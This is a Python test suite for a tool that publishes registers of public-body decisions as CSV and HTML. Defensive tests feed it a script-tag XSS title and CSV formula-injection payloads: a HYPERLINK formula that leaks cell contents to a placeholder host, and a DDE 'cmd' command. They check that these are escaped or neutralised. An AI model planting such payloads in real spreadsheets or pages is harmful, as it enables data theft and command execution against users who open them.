"""`notice register`: the published record of decisions, as CSV and as an accessible HTML table."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner

from notice_builder.cli import main
from notice_builder.publish.batch import BatchOptions, run_batch
from notice_builder.publish.register import COLUMNS
from tests.conftest import EXAMPLES, FINAL_EXAMPLE, SHORT_EXAMPLE, example_data


def invoke(*args):
    return CliRunner().invoke(main, ["register", *(str(a) for a in args)], catch_exceptions=False)


@pytest.fixture
def published(tmp_path):
    """Two decisions built into site/, as `notice batch` leaves them."""
    site = tmp_path / "site"
    run_batch([str(FINAL_EXAMPLE), str(SHORT_EXAMPLE)], BatchOptions(site, jobs=1))
    return site


class Page(HTMLParser):
    """Records the tags and attributes of an HTML page, and its text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag):
        return [attrs for name, attrs in self.tags if name == tag]


def test_csv_has_one_row_a_decision_with_the_specified_columns(published):
    out = published / "register.csv"
    assert invoke(FINAL_EXAMPLE, SHORT_EXAMPLE, "-o", out, "--include-drafts").exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == COLUMNS
    assert COLUMNS == ("reference", "title", "date", "decision_maker", "status", "documents", "organisation")
    final = next(r for r in rows[1:] if r[0] == "WMPCC 012/2013")
    assert final[2:5] == ["2013-09-24", "Bob Jones, West Midlands Police and Crime Commissioner", "Final"]
    assert final[5] == "WMPCC-012-2013-board-report.docx; WMPCC-012-2013-notice.docx"
    assert final[6] == "West Midlands Police and Crime Commissioner"
    assert len(rows) == 3


def test_links_are_relative_to_the_register(published, tmp_path):
    out = tmp_path / "register.csv"
    invoke(FINAL_EXAMPLE, "-o", out, "--documents", published)
    row = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1]
    assert row[5].split("; ")[0] == "site/WMPCC-012-2013-board-report.docx"


def test_html_is_a_captioned_table_with_column_headers_in_en_gb(published):
    out = published / "register.html"
    invoke(FINAL_EXAMPLE, SHORT_EXAMPLE, "-o", out, "--include-drafts")
    page = Page(out.read_text(encoding="utf-8"))
    assert page.all("html") == [{"lang": "en-GB"}]
    assert len(page.all("title")) == 1 and len(page.all("caption")) == 1
    headers = page.all("th")  # one organisation: no Organisation column
    assert len(headers) == len(COLUMNS) - 1 and all(h == {"scope": "col"} for h in headers)
    text = "".join(page.text)
    assert "Record of decisions: West Midlands Police and Crime Commissioner" in text
    assert "Decisions of West Midlands Police and Crime Commissioner, published under the Elected Local " \
           "Policing Bodies (Specified Information) Order 2011." in text
    assert len(page.all("tr")) == 3
    assert {"href": "WMPCC-012-2013-notice.docx"} in page.all("a")


def test_html_escapes_what_the_decision_says(tmp_path):
    data = example_data(SHORT_EXAMPLE)
    data["title"] = 'Sponsorship <script>alert("x")</script> & "awards"'
    paper = tmp_path / "paper.json"
    paper.write_text(json.dumps(data, indent=2), encoding="utf-8")
    out = tmp_path / "register.html"
    invoke(paper, "-o", out, "--include-drafts")
    html = out.read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "Sponsorship &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &quot;awards&quot;" in html
    assert "Not yet published" in html and "Not yet allocated" in html


def test_an_invalid_decision_writes_no_register(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"status": "draft"}', encoding="utf-8")
    result = invoke(FINAL_EXAMPLE, bad, "-o", tmp_path / "register.csv")
    assert result.exit_code == 1
    assert "Enter the decision title" in result.output
    assert not (tmp_path / "register.csv").exists()


def test_an_invalid_input_is_named_and_the_register_says_it_was_not_written(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"status": "draft"}', encoding="utf-8")
    out = tmp_path / "register.csv"
    unmatched = str(tmp_path / "none-*.json")
    result = CliRunner().invoke(main, ["register", str(FINAL_EXAMPLE), str(bad), unmatched, "-o", str(out)])
    assert result.exit_code == 1 and not out.exists()
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("register not written: these 2 inputs could not be used: ")
    assert str(bad) in last and "none-*.json" in last and str(FINAL_EXAMPLE) not in last
    assert f"Nothing was written to {out}." in last and "leave the input out" in last


def test_the_register_lists_only_final_decisions_and_says_how_many_drafts_it_left_out(tmp_path):
    out = tmp_path / "register.csv"
    result = CliRunner().invoke(main, ["register", str(EXAMPLES), "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1:]
    assert rows and {row[COLUMNS.index("status")] for row in rows} == {"Final"}
    drafts = sum(json.loads(p.read_text(encoding="utf-8")).get("status") == "draft"
                 for p in EXAMPLES.rglob("*.json") if p.name != "meeting.json")
    assert drafts
    assert f"wrote {out} ({len(rows)} decisions)" in result.stdout
    assert f"left out {drafts} draft decisions: the register lists only final decisions. " \
           "Add --include-drafts to list drafts too, marked as drafts." in result.stdout


def test_include_drafts_lists_drafts_marked_as_drafts(tmp_path):
    for name in ("register.csv", "register.html"):
        out = tmp_path / name
        result = invoke(FINAL_EXAMPLE, SHORT_EXAMPLE, "-o", out, "--include-drafts")
        assert result.exit_code == 0 and "1 of them marked as drafts" in result.stdout
        assert "left out" not in result.stdout
    rows = list(csv.reader(io.StringIO((tmp_path / "register.csv").read_text(encoding="utf-8"))))[1:]
    statuses = sorted(row[COLUMNS.index("status")] for row in rows)
    assert statuses == ["Draft (not a published decision)", "Final"]
    page = Page((tmp_path / "register.html").read_text(encoding="utf-8"))
    assert page.all("tr").count({"class": "draft"}) == 1
    text = "".join(page.text)
    assert "Draft (not a published decision)" in text and "2, 1 of them drafts, marked as such" in text


def test_an_unknown_register_format_is_a_usage_error(tmp_path):
    assert invoke(FINAL_EXAMPLE, "-o", tmp_path / "register.pdf").exit_code == 2


def test_a_register_of_several_organisations_names_each_rows_organisation(tmp_path):
    out = tmp_path / "register.html"
    council = EXAMPLES / "council-executive-decision.json"
    assert invoke(FINAL_EXAMPLE, council, "-o", out, "--include-drafts").exit_code == 0
    page = Page(out.read_text(encoding="utf-8"))
    text = "".join(page.text)
    assert "Record of decisions: " not in text and "Decisions of 2 organisations" in text
    assert "Regulations 2012" in text and "Order 2011" in text
    assert len(page.all("th")) == len(COLUMNS)
    assert "Westbrook Borough Council" in text and "West Midlands Police and Crime Commissioner" in text


FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  +", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _formula_like(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in {lead.strip(" ") for lead in FORMULA_LEADS}


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_no_csv_cell_can_become_a_spreadsheet_formula(lead):
    from notice_builder.publish.register import DocumentLink, RegisterEntry, register_csv

    payload = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"Click")'
    entry = RegisterEntry(reference=payload, title=payload, date="2013-07-16", decision_maker=payload,
                          status=payload, organisation=payload,
                          documents=(DocumentLink(f"{lead}cmd|'/c calc'!A0", "PDF"),))
    header, row = list(csv.reader(io.StringIO(register_csv([entry]), newline="")))
    assert header == list(COLUMNS)
    for cell in row:
        assert not _formula_like(cell), cell
    assert row[1] == "'" + payload  # shown as written, with the quote a spreadsheet hides


def test_a_title_starting_with_equals_is_text_in_the_csv_register(tmp_path):
    data = example_data(SHORT_EXAMPLE)
    data["title"] = '=HYPERLINK("http://example.invalid","Click")'
    decision = tmp_path / "decision.json"
    decision.write_text(json.dumps(data), encoding="utf-8")
    assert invoke(decision, "-o", tmp_path / "register.csv", "--include-drafts").exit_code == 0
    row = list(csv.reader(io.StringIO((tmp_path / "register.csv").read_text(encoding="utf-8"))))[1]
    assert row[COLUMNS.index("title")] == "'" + data["title"]
